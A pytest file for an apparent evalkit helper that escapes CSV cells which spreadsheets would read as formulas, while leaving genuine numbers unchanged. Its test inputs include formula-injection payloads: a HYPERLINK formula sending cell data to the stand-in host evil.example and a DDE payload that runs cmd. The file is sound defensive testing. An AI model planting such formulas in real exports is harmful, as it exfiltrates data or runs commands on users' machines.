"""No text in a CSV file is a formula to a spreadsheet; numbers stay numbers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from evalkit.spreadsheets import spreadsheet_rows, spreadsheet_text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "-",
        "+inf",
        "-1 apple",
        "-1\n",
    ],
)
def test_what_begins_like_a_formula_is_text(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["", "a=b", "'=1", "-1", "+1.5e-7", "-.5", "12.", "1e9", "2026-11-01", "rwkv7-0.1b", "a\tb", "文"]
)
def test_other_texts_and_numbers_stay(text: str) -> None:
    assert spreadsheet_text(text) == text


@given(st.floats(allow_nan=False, allow_infinity=False) | st.integers())
def test_every_number_stays(number: float) -> None:
    assert spreadsheet_text(repr(number)) == repr(number)


@given(st.text())
def test_no_text_begins_like_a_formula_afterwards(text: str) -> None:
    protected = spreadsheet_text(text)
    if protected.lstrip()[:1] in tuple("=+-@\uff1d\uff0b\uff0d\uff20"):
        float(protected)  # a number
    assert protected in (text, "'" + text)


def test_rows_keep_what_is_no_text() -> None:
    rows: list[dict[str, object]] = [{"=a": "=b", "n": -1, "x": -0.5, "none": None, "flag": True}]
    assert spreadsheet_rows(rows) == [{"'=a": "'=b", "n": -1, "x": -0.5, "none": None, "flag": True}]
